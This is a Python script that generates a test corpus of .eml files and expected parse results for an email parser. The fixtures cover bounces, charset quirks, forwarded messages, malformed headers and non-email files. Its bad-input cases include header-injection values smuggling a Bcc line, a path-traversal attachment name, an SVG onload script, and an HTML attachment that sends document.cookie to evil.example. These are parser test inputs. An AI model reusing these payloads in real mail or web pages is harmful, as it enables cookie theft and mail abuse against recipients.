--4TsZ5b1kHxz9rwN.1709974800/mx1.shop.example
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx1.shop.example.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<old.customer@gone.example>: host mx.gone.example[198.51.100.7] said: 550 5.1.1
    User unknown (in reply to RCPT TO command)

--4TsZ5b1kHxz9rwN.1709974800/mx1.shop.example
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.shop.example
X-Postfix-Queue-ID: 4TsZ5b1kHxz9rwN
Arrival-Date: Sat,  9 Mar 2024 09:59:58 +0100 (CET)

Final-Recipient: rfc822; old.customer@gone.example
Original-Recipient: rfc822;old.customer@gone.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.gone.example
Diagnostic-Code: smtp; 550 5.1.1 User unknown

--4TsZ5b1kHxz9rwN.1709974800/mx1.shop.example
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: Shop Support <{SUPPORT}>
To: old.customer@gone.example
Subject: [SPR-000077] Your request
Message-ID: <out-77@shop.example>

--4TsZ5b1kHxz9rwN.1709974800/mx1.shop.example--
"""), exp("mailer-daemon@mx1.shop.example", "Mail Delivery System", "Undelivered Mail Returned to Sender",
          "2024-03-09T09:00:00+00:00", "4TsZ5b1kHxz9rwN@mx1.shop.example", is_auto=True, auto_kind="bounce",
          bounced_recipients=["old.customer@gone.example"],
          attachments=[att("delivery-status.txt", "message/delivery-status", 346, verbatim=True),
                       att("attachment-2.txt", "text/rfc822-headers", 145, verbatim=True)],
          text_contains=["could not\nbe delivered"]))

case("bounce-exchange", crlf(f"""From: Microsoft Outlook
\t<MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@contoso.com>
To: <{SUPPORT}>
Date: Sat, 9 Mar 2024 11:00:00 +0000
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="b1_ndr"
Subject: Undeliverable: [SPR-000078] Reply
Message-ID: <ndr-78@AM6PR02MB1234.eurprd02.prod.outlook.com>
Auto-Submitted: auto-replied
MIME-Version: 1.0

--b1_ndr
Content-Type: multipart/alternative; boundary="b2_ndr"

--b2_ndr
Content-Type: text/plain; charset="us-ascii"

Your message to a.ivanova@contoso.com couldn't be delivered.
a.ivanova wasn't found at contoso.com.

--b2_ndr
Content-Type: text/html; charset="us-ascii"

<html><body><p>Your message to <b>a.ivanova@contoso.com</b> couldn't be delivered.</p></body></html>
--b2_ndr--

--b1_ndr
Content-Type: message/delivery-status

Reporting-MTA: dns;AM6PR02MB1234.eurprd02.prod.outlook.com
Received-From-MTA: dns;mx.shop.example
Arrival-Date: Sat, 9 Mar 2024 10:59:59 +0000

Final-Recipient: rfc822;a.ivanova@contoso.com
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup

--b1_ndr
Content-Type: message/rfc822

From: <{SUPPORT}>
To: <a.ivanova@contoso.com>
Subject: [SPR-000078] Reply
Date: Sat, 9 Mar 2024 10:59:00 +0000
Message-ID: <out-78@shop.example>

Reply text
--b1_ndr--
"""), exp("microsoftexchange329e71ec88ae4615bbc36ab6ce41109e@contoso.com", "Microsoft Outlook",
          "Undeliverable: [SPR-000078] Reply", "2024-03-09T11:00:00+00:00",
          "ndr-78@AM6PR02MB1234.eurprd02.prod.outlook.com", is_auto=True, auto_kind="bounce",
          bounced_recipients=["a.ivanova@contoso.com"],
          attachments=[att("delivery-status.txt", "message/delivery-status", 334, verbatim=True),
                       att("[SPR-000078] Reply.eml", "message/rfc822", 173, verbatim=True)],
          text_contains=["couldn't be delivered", "Subject: [SPR-000078] Reply", "Reply text"]))

case("bounce-qmail", crlf(f"""Return-Path: <>
From: MAILER-DAEMON@mail.old-host.example
To: {SUPPORT}
Subject: failure notice
Date: 9 Mar 2024 12:00:00 -0000
Message-ID: <qmail-bounce-1@mail.old-host.example>

Hi. This is the qmail-send program at mail.old-host.example.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<ivan.petrov@old-host.example>:
Sorry, no mailbox here by that name. (#5.1.1)

--- Below this line is a copy of the message.

Return-Path: <{SUPPORT}>
From: {SUPPORT}
To: ivan.petrov@old-host.example
Subject: [SPR-000079] Hello
"""), exp("mailer-daemon@mail.old-host.example", "", "failure notice", "2024-03-09T12:00:00+00:00",
          "qmail-bounce-1@mail.old-host.example", is_auto=True, auto_kind="bounce",
          bounced_recipients=["ivan.petrov@old-host.example"], text_contains=["qmail-send program"]))

case("bounce-exim", crlf(f"""Return-path: <>
Envelope-to: {SUPPORT}
From: Mail Delivery System <Mailer-Daemon@hosting.example>
To: {SUPPORT}
Subject: Mail delivery failed: returning message to sender
Message-Id: <E1rj0Ab-0001xY-Qw@hosting.example>
Date: Sat, 09 Mar 2024 13:00:00 +0000
X-Failed-Recipients: shop-owner@closed.example
Auto-Submitted: auto-replied

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  shop-owner@closed.example
    mailbox is full: retry timeout exceeded
"""), exp("mailer-daemon@hosting.example", "Mail Delivery System", "Mail delivery failed: returning message to sender",
          "2024-03-09T13:00:00+00:00", "E1rj0Ab-0001xY-Qw@hosting.example", is_auto=True, auto_kind="bounce",
          delivered_to=[SUPPORT], bounced_recipients=["shop-owner@closed.example"],
          text_contains=["The following address(es) failed:"]))

case("dsn-delayed", crlf(f"""Return-Path: <>
From: MAILER-DAEMON@mx1.shop.example (Mail Delivery System)
To: {SUPPORT}
Subject: Delayed Mail (still being retried)
Date: Sat, 9 Mar 2024 14:00:00 +0100
Message-Id: <delay-1@mx1.shop.example>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="dly"

--dly
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx1.shop.example. Your message is delayed.

--dly
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.shop.example

Final-Recipient: rfc822; slow@slow.example
Action: delayed
Status: 4.4.1

--dly--
"""), exp("mailer-daemon@mx1.shop.example", "Mail Delivery System", "Delayed Mail (still being retried)",
          "2024-03-09T13:00:00+00:00", "delay-1@mx1.shop.example", is_auto=True, auto_kind="bounce",
          bounced_recipients=[], attachments=[att("delivery-status.txt", "message/delivery-status", 114, verbatim=True)],
          text="This is the mail system at host mx1.shop.example. Your message is delayed."))

# ---------------------------------------------------------------------------------------------- bad input
case("header-injection-subject", crlf(f"""From: attacker@evil.example
To: {SUPPORT}
Subject: =?utf-8?Q?Hello=0D=0ABcc:_victim@target.example=0D=0A=0D=0Abody?=
Date: Sun, 10 Mar 2024 10:00:00 +0000
Message-ID: <inj-1@evil.example>

test
"""), exp("attacker@evil.example", "", "Hello Bcc: victim@target.example body", "2024-03-10T10:00:00+00:00",
          "inj-1@evil.example", headers_ok=False, text="test"))

EVE = base64.b64encode(b"Eve\r\nBcc: x@target.example").decode()
case("header-injection-name", crlf(f"""From: =?utf-8?B?{EVE}?= <eve@evil.example>
To: {SUPPORT}
Subject: hi
Date: Sun, 10 Mar 2024 10:00:00 +0000
Message-ID: <inj-2@evil.example>

test
"""), exp("eve@evil.example", "Eve Bcc: x@target.example", "hi", "2024-03-10T10:00:00+00:00", "inj-2@evil.example",
          headers_ok=False, text="test"))

case("missing-from", crlf(f"""Return-Path: <noreply-system@legacy.example>
To: {SUPPORT}
Subject: Nightly export
Date: Sun, 10 Mar 2024 01:00:00 +0000
Message-ID: <nofrom@legacy.example>

Export finished.
"""), exp("noreply-system@legacy.example", "", "Nightly export", "2024-03-10T01:00:00+00:00", "nofrom@legacy.example",
          headers_ok=False, text="Export finished.", defects_contains=["missing From"]))

case("missing-from-and-sender", crlf(f"""To: {SUPPORT}
Subject: Who am I
Date: Sun, 10 Mar 2024 02:00:00 +0000

Anonymous text.
"""), exp(None, "", "Who am I", "2024-03-10T02:00:00+00:00", None, headers_ok=False, text="Anonymous text.",
          defects_contains=["missing From", "missing Message-ID"]))

case("missing-message-id", crlf(f"""From: Scanner <scanner@office.example>
To: {SUPPORT}
Subject: Scanned document
Date: Sun, 10 Mar 2024 03:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="scan"

--scan
Content-Type: text/plain

Scanned.
--scan
Content-Type: application/pdf
Content-Transfer-Encoding: base64

{b64(PDF)}
--scan--
"""), exp("scanner@office.example", "Scanner", "Scanned document", "2024-03-10T03:00:00+00:00", None,
          text="Scanned.", attachments=[att("attachment-1.pdf", "application/pdf", len(PDF))],
          defects_contains=["missing Message-ID"]))

refs = " ".join(f"<ref{i}@thread.example>" for i in range(300))
long_subject = "Very long subject " * 100
case("huge-odd-headers", crlf(f"""From:Odd Sender<odd@odd.example>
To: {SUPPORT}
Subject: {long_subject.strip()}
Subject: second subject header
Date: Sun, 10 Mar 2024 04:00
Message-ID:<odd-1@odd.example>
References: {refs}
X-Very-Long: {"x" * 5000}
X-Empty:
In-Reply-To: <ref299@thread.example> (from odd)

Body.
"""), exp("odd@odd.example", "Odd Sender", ("Very long subject " * 100)[:1000].strip(), "2024-03-10T04:00:00+00:00",
          "odd-1@odd.example", in_reply_to="ref299@thread.example",
          references=["ref0@thread.example"] + [f"ref{i}@thread.example" for i in range(201, 300)], text="Body.",
          defects_contains=["subject longer than 1000 characters, cut"]))

case("dangerous-attachments", crlf(f"""From: Someone <someone@unknown.example>
To: {SUPPORT}
Subject: Invoice
Date: Sun, 10 Mar 2024 05:00:00 +0000
Message-ID: <danger@unknown.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="d"

--d
Content-Type: text/plain

See attached.
--d
Content-Type: text/html; name="invoice.html"
Content-Disposition: attachment; filename="invoice.html"

<html><script>document.location='https://evil.example/'+document.cookie</script></html>
--d
Content-Type: application/octet-stream; name="invoice.pdf.exe"
Content-Disposition: attachment; filename="../../invoice.pdf.exe"
Content-Transfer-Encoding: base64

TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=
--d
Content-Type: image/svg+xml; name="logo.svg"
Content-Disposition: inline; filename="logo.svg"

<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>
--d--
"""), exp("someone@unknown.example", "Someone", "Invoice", "2024-03-10T05:00:00+00:00", "danger@unknown.example",
          text="See attached.",
          attachments=[att("invoice.html", "text/html", 87, False, dangerous=True, verbatim=True),
                       att("invoice.pdf.exe", "application/x-msdownload", 32, False, dangerous=True),
                       att("logo.svg", "image/svg+xml", 64, False, dangerous=True, verbatim=True)]))

case("broken-encoded-words", crlf(f"""From: =?utf-8?Q?Ren=C3=A9e?= Fleming <renee@example.com>
To: {SUPPORT}
Subject: =?utf-8?B?0J/RgNC40LI=?==?utf-8?B?0LXRgg==?= =?utf-8?Q?_=D0=BC?= =?utf-8?Q?=D0=B8=D1=80 and more?= =?x-unknown?Q?tail?=
Date: Sun, 10 Mar 2024 06:00:00 +0000
Message-ID: <broken-ew@example.com>

Body.
"""), exp("renee@example.com", "Renée Fleming", "Привет мир and moretail", "2024-03-10T06:00:00+00:00",
          "broken-ew@example.com", text="Body."))

case("split-multibyte-ew", crlf(f"""From: Test <test@example.com>
To: {SUPPORT}
Subject: =?UTF-8?B?0J/RgNC40LLQtdGCINC=?=
 =?UTF-8?B?vNC40YA=?=
 =?UTF-8?B?INCx0LXQtyDQvtGC0LrRgNGL0YLQuNGP
Date: Sun, 10 Mar 2024 07:00:00 +0000
Message-ID: <split@example.com>

Body.
"""), exp("test@example.com", "Test", "Привет мир без открытия", "2024-03-10T07:00:00+00:00", "split@example.com",
          text="Body.", defects_contains=["encoded word not closed"]))

case("base64-broken", crlf(f"""From: Sender <sender@example.com>
To: {SUPPORT}
Subject: Broken base64
Date: Sun, 10 Mar 2024 08:00:00 +0000
Message-ID: <b64@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

0J/RgNC40LLQtdGCLCDRjdGC0L4g0YLQtdC60YHR
!!!
gi4
"""), exp("sender@example.com", "Sender", "Broken base64", "2024-03-10T08:00:00+00:00", "b64@example.com",
          text_contains=["Привет, это текс"], defects_contains=["InvalidBase64CharactersDefect"]))

text = ("This line is long enough that the mailer has to wrap it with soft line breaks, and it has an equals "
        "sign = and a trailing space at the end ")
case("qp-long-lines", crlf(f"""From: Sender <sender@example.com>
To: {SUPPORT}
Subject: QP
Date: Sun, 10 Mar 2024 09:00:00 +0000
Message-ID: <qp@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp(text + chr(10) + "second line ± 5 °C" + chr(10))}"""),
     exp("sender@example.com", "Sender", "QP", "2024-03-10T09:00:00+00:00", "qp@example.com",
         text=text + "\nsecond line ± 5 °C"))

case("plain-ascii-old", crlf(f"""From: bob@unix.example (Bob the Admin)
To: {SUPPORT}
Subject: printer
Date: 10 Mar 24 10:00:00 EST
Message-Id: <199703101000.AA01234@unix.example>

the printer on floor 2 is jammed again.
"""), exp("bob@unix.example", "Bob the Admin", "printer", "2024-03-10T15:00:00+00:00",
          "199703101000.AA01234@unix.example", text="the printer on floor 2 is jammed again."))

case("mbox-from-line", b"From sender@example.com Sun Mar 10 11:00:00 2024\n" + f"""From: Sender <sender@example.com>
To: {SUPPORT}
Subject: From an mbox
Date: Sun, 10 Mar 2024 11:00:00 +0000
Message-ID: <mbox@example.com>

Unix line endings and an mbox separator.
""".encode(), exp("sender@example.com", "Sender", "From an mbox", "2024-03-10T11:00:00+00:00", "mbox@example.com",
                  text="Unix line endings and an mbox separator."))

case("garbage-date", crlf(f"""From: Sender <sender@example.com>
To: {SUPPORT}
Subject: Bad date
Date: yesterday at noon
Message-ID: <baddate@example.com>

Body.
"""), exp("sender@example.com", "Sender", "Bad date", None, "baddate@example.com", text="Body.",
          defects_contains=["unreadable Date: yesterday at noon"]))

case("multiple-recipients-cc", crlf(f"""From: "Kowalski, Jan" <Jan.Kowalski@Firma.example.PL>
To: "Support" <{SUPPORT}>, sales@shop.example,
 =?UTF-8?Q?Micha=C5=82?= <michal@firma.example.pl>
Cc: boss@firma.example.pl, "Anna (HR)" <anna.hr@firma.example.pl>
Reply-To: zamowienia@firma.example.pl
Subject: Zapytanie ofertowe
Date: Sun, 10 Mar 2024 12:00:00 +0100
Message-ID: <cc@firma.example.pl>

Prosimy o ofertę.
"""), exp("jan.kowalski@firma.example.pl", "Kowalski, Jan", "Zapytanie ofertowe", "2024-03-10T11:00:00+00:00",
          "cc@firma.example.pl", to=[SUPPORT, "sales@shop.example", "michal@firma.example.pl"],
          cc=["boss@firma.example.pl", "anna.hr@firma.example.pl"], reply_to=["zamowienia@firma.example.pl"],
          text="Prosimy o ofertę."))

case("smime-signed", crlf(f"""From: Secure Sender <secure@bank.example>
To: {SUPPORT}
Subject: Signed statement
Date: Sun, 10 Mar 2024 13:00:00 +0000
Message-ID: <smime@bank.example>
MIME-Version: 1.0
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;
\tboundary="----sig"

------sig
Content-Type: text/plain; charset=us-ascii

Statement attached below.
------sig
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"

MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAAKCAMIIF
------sig--
"""), exp("secure@bank.example", "Secure Sender", "Signed statement", "2024-03-10T13:00:00+00:00", "smime@bank.example",
          text="Statement attached below.", attachments=[att("smime.p7s", "application/pkcs7-signature", 57)]))

case("outlook-forward-eml-with-attachment", crlf(f"""From: Store 12 <store12@retail.example>
To: {SUPPORT}
Subject: FW: Complaint
Date: Sun, 10 Mar 2024 14:00:00 +0000
Message-ID: <fw-eml@retail.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: text/plain; charset="us-ascii"

See below.
--outer
Content-Type: message/rfc822
Content-Disposition: attachment

From: Customer <customer@example.com>
To: store12@retail.example
Subject: Complaint
Date: Sat, 9 Mar 2024 18:00:00 +0000
Message-ID: <complaint@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="inner"

--inner
Content-Type: text/html; charset="utf-8"

<p>The kettle leaks.</p>
--inner
Content-Type: image/jpeg; name="kettle.jpg"
Content-Disposition: attachment; filename="kettle.jpg"
Content-Transfer-Encoding: base64

{b64(JPG)}
--inner--

--outer--
"""), exp("store12@retail.example", "Store 12", "FW: Complaint", "2024-03-10T14:00:00+00:00", "fw-eml@retail.example",
          attachments=[att("Complaint.eml", "message/rfc822", 851, verbatim=True)],
          text="See below.\n\n---------- Forwarded message ----------\nFrom: Customer <customer@example.com>\n"
               "Date: Sat, 9 Mar 2024 18:00:00 +0000\nSubject: Complaint\nTo: store12@retail.example\n\n"
               "The kettle leaks."))

case("lone-lf-and-nul-body", (f"""From: Sender <sender@example.com>\nTo: {SUPPORT}\nSubject: LF only\n"""
                              f"""Date: Sun, 10 Mar 2024 15:00:00 +0000\nMessage-ID: <lf@example.com>\n\n"""
                              """Line one\nLine two\x00 with NUL\n""").encode(),
     exp("sender@example.com", "Sender", "LF only", "2024-03-10T15:00:00+00:00", "lf@example.com",
         text="Line one\nLine two with NUL"))

case("unknown-charset-label", crlf(f"""From: Sender <sender@example.com>
To: {SUPPORT}
Subject: Unknown charset
Date: Sun, 10 Mar 2024 16:00:00 +0000
Message-ID: <unk@example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset="x-mac-klingon"
Content-Transfer-Encoding: 8bit

""").encode() + "Спасибо за быструю доставку!\r\n".encode("cp1251"),
     exp("sender@example.com", "Sender", "Unknown charset", "2024-03-10T16:00:00+00:00", "unk@example.com",
         text="Спасибо за быструю доставку!", defects_contains=["text/plain: unknown charset 'x-mac-klingon'"]))

case("missing-boundary-end", crlf(f"""From: Sender <sender@example.com>
To: {SUPPORT}
Subject: Truncated
Date: Sun, 10 Mar 2024 17:00:00 +0000
Message-ID: <trunc@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="cut"

--cut
Content-Type: text/plain; charset=utf-8

The message was cut in transit.
--cut
Content-Type: application/pdf; name="doc.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQK
"""), exp("sender@example.com", "Sender", "Truncated", "2024-03-10T17:00:00+00:00", "trunc@example.com",
          text="The message was cut in transit.", attachments=[att("doc.pdf", "application/pdf", 9)],
          defects_contains=["CloseBoundaryNotFoundDefect"]))

case("gmail-attachment-plus-alternative", gmail("Ravi Kumar <ravi.kumar@gmail.com>", "Invoice copy",
                                                "Please find the invoice.\n\n-- \nRavi Kumar\n+44 20 7946 0000\n",
                                                "<div>Please find the invoice.</div>",
                                                date="Sun, 10 Mar 2024 18:00:00 +0000", msgid="CAinv@mail.gmail.com",
                                                parts=f"""--000000000000f1e2d3c4b5a60612
Content-Type: application/pdf; name="invoice-2024-031.pdf"
Content-Disposition: attachment; filename="invoice-2024-031.pdf"
Content-Transfer-Encoding: base64
X-Attachment-Id: f_lt9

{b64(PDF)}
"""), exp("ravi.kumar@gmail.com", "Ravi Kumar", "Invoice copy", "2024-03-10T18:00:00+00:00", "CAinv@mail.gmail.com",
          delivered_to=[SUPPORT], text="Please find the invoice.\n\n-- \nRavi Kumar\n+44 20 7946 0000",
          reply_text="Please find the invoice.", attachments=[att("invoice-2024-031.pdf", "application/pdf", len(PDF))]))

case("outlook-underscore-quote", crlf(f"""From: Nadia <nadia@hotmail.example>
To: {SUPPORT}
Subject: RE: Return label
Date: Sun, 10 Mar 2024 19:00:00 +0000
Message-ID: <hotmail-1@hotmail.example>
Content-Type: text/plain; charset="utf-8"

Got it, thank you!

Get Outlook for Android

________________________________
From: Shop Support <support@shop.example>
Sent: Sunday, March 10, 2024 6:00:00 PM
To: Nadia <nadia@hotmail.example>
Subject: Return label

Here is your return label.
"""), exp("nadia@hotmail.example", "Nadia", "RE: Return label", "2024-03-10T19:00:00+00:00", "hotmail-1@hotmail.example",
          text_contains=["Got it, thank you!", "Here is your return label."], reply_text="Got it, thank you!"))

case("ru-thunderbird-signature-and-mobile", crlf(f"""From: =?UTF-8?B?0J7Qu9C10LM=?= <oleg@example.ru>
To: {SUPPORT}
Subject: =?UTF-8?B?0KHRgtCw0YLRg9GB?=
Date: Sun, 10 Mar 2024 20:00:00 +0300
Message-ID: <oleg@example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Какой статус у заявки?

Отправлено из мобильной Почты Mail.ru
"""), exp("oleg@example.ru", "Олег", "Статус", "2024-03-10T17:00:00+00:00", "oleg@example.ru",
          text="Какой статус у заявки?\n\nОтправлено из мобильной Почты Mail.ru",
          reply_text="Какой статус у заявки?"))

case("pl-outlook-original-message", crlf(f"""From: Biuro <biuro@hurt.example.pl>
To: {SUPPORT}
Subject: =?UTF-8?Q?Odp:_Dostawa?=
Date: Sun, 10 Mar 2024 21:00:00 +0100
Message-ID: <pl-orig@hurt.example.pl>
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Potwierdzamy termin dostawy.

Wysłane z mojego iPhone'a

-----Oryginalna wiadomość-----
Od: Sklep <support@shop.example>
Wysłano: niedziela, 10 marca 2024 20:00
Temat: Dostawa
"""), exp("biuro@hurt.example.pl", "Biuro", "Odp: Dostawa", "2024-03-10T20:00:00+00:00", "pl-orig@hurt.example.pl",
          text_contains=["Potwierdzamy termin dostawy."], reply_text="Potwierdzamy termin dostawy."))

case("fr-message-origine", crlf(f"""From: Luc <luc@laposte.example>
To: {SUPPORT}
Subject: =?ISO-8859-1?Q?R=E9f=E9rence?=
Date: Sun, 10 Mar 2024 22:00:00 +0100
Message-ID: <fr-orig@laposte.example>
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: 8bit

""").encode() + crlf("""Merci, c'est noté.

Envoyé de mon iPhone

-----Message d'origine-----
De : Service client <support@shop.example>
Envoyé : dimanche 10 mars 2024 21:00
Objet : Référence
""").encode("latin-1"), exp("luc@laposte.example", "Luc", "Référence", "2024-03-10T21:00:00+00:00", "fr-orig@laposte.example",
                            text_contains=["Merci, c'est noté."], reply_text="Merci, c'est noté."))

case("ru-outlook-original-message-koi8", crlf(f"""From: =?koi8-r?B?8MXU0s/X?= <petrov@zavod.example.ru>
To: {SUPPORT}
Subject: {ew_b("Re: Счет", "koi8-r")}
Date: Mon, 11 Mar 2024 09:00:00 +0300
Message-ID: <ru-orig@zavod.example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset="koi8-r"
Content-Transfer-Encoding: quoted-printable

""").encode() + qp("Оплату провели сегодня.\n\n-----Исходное сообщение-----\nОт: Поддержка [mailto:support@shop.example]\nОтправлено: 10 марта 2024 г. 18:00\nТема: Счёт\n", "koi8_r").encode(),
     exp("petrov@zavod.example.ru", "Петров", "Re: Счет", "2024-03-11T06:00:00+00:00", "ru-orig@zavod.example.ru",
         text_contains=["Оплату провели сегодня.", "Исходное сообщение"], reply_text="Оплату провели сегодня."))

case("empty-body", crlf(f"""From: Sender <sender@example.com>
To: {SUPPORT}
Subject: (no text)
Date: Mon, 11 Mar 2024 10:00:00 +0000
Message-ID: <empty@example.com>

"""), exp("sender@example.com", "Sender", "(no text)", "2024-03-11T10:00:00+00:00", "empty@example.com", text="",
          reply_text=""))

case("nested-deep-multipart", crlf(f"""From: Sender <sender@example.com>
To: {SUPPORT}
Subject: Nested
Date: Mon, 11 Mar 2024 11:00:00 +0000
Message-ID: <nested@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="l1"

--l1
Content-Type: multipart/mixed; boundary="l2"

--l2
Content-Type: multipart/alternative; boundary="l3"

--l3
Content-Type: text/plain; charset=utf-8

Deep text.
--l3
Content-Type: multipart/related; boundary="l4"

--l4
Content-Type: text/html; charset=utf-8

<p>Deep <i>html</i>.</p>
--l4--
--l3--
--l2--
--l1
Content-Type: text/plain; charset=utf-8; name="notes.txt"
Content-Disposition: attachment; filename="notes.txt"

file content
--l1--
"""), exp("sender@example.com", "Sender", "Nested", "2024-03-11T11:00:00+00:00", "nested@example.com",
          text="Deep text.", html_contains=["<p>Deep <i>html</i>.</p>"],
          attachments=[att("notes.txt", "text/plain", 12)]))


case("empty-plain-alternative", crlf(f"""From: Portal <portal@b2b.example>
To: {SUPPORT}
Subject: New claim #8812
Date: Mon, 11 Mar 2024 12:00:00 +0000
Message-ID: <claim-8812@b2b.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8


--alt
Content-Type: text/html; charset=utf-8

<p>Claim <b>8812</b>: two cartons missing.</p>
--alt--
"""), exp("portal@b2b.example", "Portal", "New claim #8812", "2024-03-11T12:00:00+00:00", "claim-8812@b2b.example",
          text="Claim 8812: two cartons missing.", html_contains=["<b>8812</b>"]))

INNER = crlf("""From: =?UTF-8?B?0JzQsNGA0LjRjw==?= <maria@client.example>
To: manager@shop-branch.example
Subject: =?UTF-8?B?0JLQvtC30LLRgNCw0YI=?=
Date: Sun, 10 Mar 2024 12:00:00 +0300
Message-ID: <inner-b64@client.example>
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Верните деньги за сломанный чайник.
""").encode()
case("forward-rfc822-base64", crlf(f"""From: Branch Manager <manager@shop-branch.example>
To: {SUPPORT}
Subject: FW: Refund
Date: Mon, 11 Mar 2024 13:00:00 +0300
Message-ID: <fw-b64@shop-branch.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwb"

--fwb
Content-Type: text/plain; charset=us-ascii

Customer complaint attached.
--fwb
Content-Type: message/rfc822; name="complaint.eml"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="complaint.eml"

{b64(INNER)}
--fwb--
"""), exp("manager@shop-branch.example", "Branch Manager", "FW: Refund", "2024-03-11T10:00:00+00:00",
          "fw-b64@shop-branch.example", attachments=[att("complaint.eml", "message/rfc822", len(INNER))],
          text="Customer complaint attached.\n\n---------- Forwarded message ----------\nFrom: Мария <maria@client.example>\n"
               "Date: Sun, 10 Mar 2024 12:00:00 +0300\nSubject: Возврат\nTo: manager@shop-branch.example\n\n"
               "Верните деньги за сломанный чайник.",
          defects_contains=["message/rfc822 part with base64 transfer encoding"]))

case("php-mailer-lost-boundary", crlf(f"""From: Shop Website <noreply-form@shop-site.example>
To: {SUPPORT}
Subject: Contact form: delivery question
Date: Mon, 11 Mar 2024 14:00:00 +0000
Message-ID: <form-php-1@shop-site.example>
X-Mailer: PHP/5.4.16
MIME-Version: 1.0
Content-Type: multipart/mixed

--==Multipart_Boundary_x5f3c2a1x
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Name: Paul
Message: When will order 7781 arrive?

--==Multipart_Boundary_x5f3c2a1x
Content-Type: application/pdf; name="receipt.pdf"
Content-Disposition: attachment; filename="receipt.pdf"
Content-Transfer-Encoding: base64

{b64(PDF)}

--==Multipart_Boundary_x5f3c2a1x--
"""), exp("noreply-form@shop-site.example", "Shop Website", "Contact form: delivery question",
          "2024-03-11T14:00:00+00:00", "form-php-1@shop-site.example",
          text="Name: Paul\nMessage: When will order 7781 arrive?",
          attachments=[att("receipt.pdf", "application/pdf", len(PDF))],
          defects_contains=["NoBoundaryInMultipartDefect", "multipart boundary recovered from the body"]))

# ---------------------------------------------------------------------------------------------- not mail at all
NOT_EMAILS = {
    "empty.eml": b"",
    "whitespace.eml": b"\r\n\r\n   \r\n",
    "picture.png": PNG,
    "document.pdf": PDF,
    "garbage.bin": bytes((i * 73 + 41) % 256 for i in range(2048)),
    "plain-text.txt": b"Dear team,\nplease call me back about order 123.\nThanks\n",
    "colon-text.txt": b"Note: buy milk\nTodo: call mum\n",
    "nul-header.eml": b"From: a@b.example\r\nSubj\x00ect: x\r\n\r\nbody",
}


def main() -> int:
    """Writes tests/email/corpus and not_email, or, with an argument, the same files under that folder."""
    corpus, not_email = (CORPUS, NOT_EMAIL) if len(sys.argv) < 2 else (
        Path(sys.argv[1]) / "corpus", Path(sys.argv[1]) / "not_email")
    corpus.mkdir(parents=True, exist_ok=True)
    not_email.mkdir(parents=True, exist_ok=True)
    expected: dict[str, Any] = {}
    for name, (data, result) in CASES.items():
        (corpus / f"{name}.eml").write_bytes(data)
        expected[f"{name}.eml"] = result
    (corpus / "expected.json").write_text(json.dumps(expected, ensure_ascii=False, indent=1, sort_keys=True) + "\n",
                                          encoding="utf-8")
    for name, data in NOT_EMAILS.items():
        (not_email / name).write_bytes(data)
    print(f"{len(CASES)} messages, {len(NOT_EMAILS)} non-emails")
    return 0


if __name__ == "__main__":
    sys.exit(main())
